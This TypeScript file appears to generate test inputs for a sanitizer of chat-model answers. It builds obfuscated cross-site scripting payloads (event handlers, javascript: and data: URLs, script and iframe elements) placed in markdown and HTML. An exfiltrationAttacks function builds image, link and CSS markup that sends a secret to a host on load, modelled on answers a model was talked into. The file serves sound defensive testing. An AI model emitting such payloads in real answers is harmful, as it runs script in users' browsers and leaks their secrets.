/** Texts that run a script or load something where they are taken for HTML or for an unsafe link. Generated, so that each combination is tried. */

/** Says that it ran. Free of spaces and quotes, so that it fits everywhere. */
const CODE = 'alert(1)';

/** Elements with an event that occurs by itself. */
const TRIGGERS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['b contenteditable autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
] as const;

const mixedCase = (text: string) =>
  text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter));
const asEntities = (text: string) => text.replace(/[^\w ]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** Ways of writing an element with an event handler. */
const SPELLINGS: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=${CODE}>`,
  (element, handler) => `<${element} ${handler}="${CODE}">`,
  (element, handler) => `<${element} ${handler}='${asEntities(CODE)}'>`,
  (element, handler) => `<${mixedCase(element)} ${mixedCase(handler)}=${CODE}>`,
  (element, handler) => `<${element.replaceAll(' ', '/')}/${handler}=${CODE}>`,
  (element, handler) => `<${element.replaceAll(' ', '\n')}\n${handler}\n=\n${CODE}\n>`,
  (element, handler) => `<${element} ${handler}=${CODE}//`,
  (element, handler) => asEntities(`<${element} ${handler}=${CODE}>`),
];

/** Places in an answer or message. */
const PLACES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `Hello ${markup} there`,
  (markup) => `**${markup}**`,
  (markup) => `> ${markup}`,
  (markup) => `- ${markup}\n- two`,
  (markup) => `# ${markup}`,
  (markup) => `\`${markup}\``,
  (markup) => `\`\`\`html\n${markup}\n\`\`\``,
  (markup) => `| a |\n|---|\n| ${markup} |`,
  (markup) => `[${markup}](https://shop.example/)`,
  (markup) => `[x](https://shop.example/ "${markup}")`,
  (markup) => `[x](https://shop.example/">${markup})`,
  (markup) => `![${markup}](https://shop.example/x.png)`,
  (markup) => `</p></textarea></title></style></script>-->${markup}`,
];

const UNSAFE_URLS = [
  `javascript:${CODE}`,
  `${mixedCase('javascript')}:${CODE}`,
  `java\tscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://shop.example/%0A${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:${CODE}`,
];
const LINKS: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `![x](${url})`,
  (url) => `[x][1]\n\n[1]: ${url}`,
  (url) => `[![x](https://shop.example/x.png)](${url})`,
  (url) => url,
  (url) => `<a href="${url}">x</a>`,
];

/** Elements that need no event handler. */
const ELEMENTS = [
  `<script>${CODE}</script>`,
  '<script src=https://canary.example/s.js></script>',
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<iframe src=javascript:${CODE}></iframe>`,
  '<style>@import "https://canary.example/s.css";</style>',
  '<base href=https://canary.example/>',
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<form action=javascript:${CODE}><button>Continue</button></form>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><a xlink:href=javascript:${CODE}><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<template><script>${CODE}</script></template>`,
  `<embed src=javascript:${CODE}>`,
];

/** Each element in each spelling, in changing places; each unsafe URL in each kind of link; and the other elements in each place. */
export function markupAttacks(): string[] {
  const handlers = TRIGGERS.flatMap(([element, handler], row) =>
    SPELLINGS.map((spell, column) => {
      const place = PLACES[(row * 3 + column) % PLACES.length] ?? String;
      return place(spell(element, handler));
    }),
  );
  const links = UNSAFE_URLS.flatMap((url) => LINKS.map((link) => link(url)));
  const elements = ELEMENTS.flatMap((element, row) =>
    PLACES.filter((_, at) => at % 3 === row % 3).map((place) => place(element)),
  );
  return [...handlers, ...links, ...elements];
}

/** Answers that a model was talked into, each of which sends a secret to `host` as soon as something of it is loaded. */
export function exfiltrationAttacks(host: string, count: number): string[] {
  const shapes: readonly ((url: string) => string)[] = [
    (url) => `![status](${url})`,
    (url) => `![status](<${url}> "Status")`,
    (url) => `![status][r]\n\n[r]: ${url}`,
    (url) => `[r]: ${url}\n\nSee ![r] and [r].`,
    (url) => `[![status](${url})](${url})`,
    (url) => `<${url}>`,
    (url) => `See ${url} for details.`,
    (url) => `[details](${url} "${url}")`,
    (url) => `![a](//${url.slice('https://'.length)})`,
    (url) => `<img src="${url}">`,
    (url) => `<link rel="preload" as="image" href="${url}">`,
    (url) => `<style>p { background: url(${url}) }</style>`,
    (url) => `<svg><image href="${url}"/></svg>`,
    (url) => `<video poster="${url}"></video>`,
    (url) => `<iframe src="${url}"></iframe>`,
    (url) => `| a |\n|---|\n| ![x](${url}) |`,
    (url) => `> - ![x](${url})`,
    (url) => `**![x](${url})**`,
    (url) => `A claim [1](${url}).`,
    (url) => `<object data="${url}"></object>`,
  ];
  return Array.from({ length: count }, (_, at) => {
    const shape = shapes[at % shapes.length] ?? String;
    return shape(`https://${host}/${at}.png?secret=FW-${1000 + at}`);
  });
}

/** Of links: four that are safe, and others that browsers and systems act on. */
export const SCHEMES = [
  ...['http', 'https', 'mailto', 'tel', 'javascript', 'vbscript', 'livescript', 'data', 'blob', 'file', 'filesystem'],
  ...['about', 'view-source', 'chrome', 'chrome-extension', 'moz-extension', 'resource', 'jar', 'mhtml', 'ftp', 'sftp'],
  ...['ws', 'wss', 'ssh', 'telnet', 'ldap', 'smb', 'intent', 'market', 'itms-services', 'ms-msdt', 'search-ms'],
  ...['ms-word', 'sms', 'facetime', 'geo', 'magnet', 'webcal', 'bitcoin', 'x-unknown'],
];
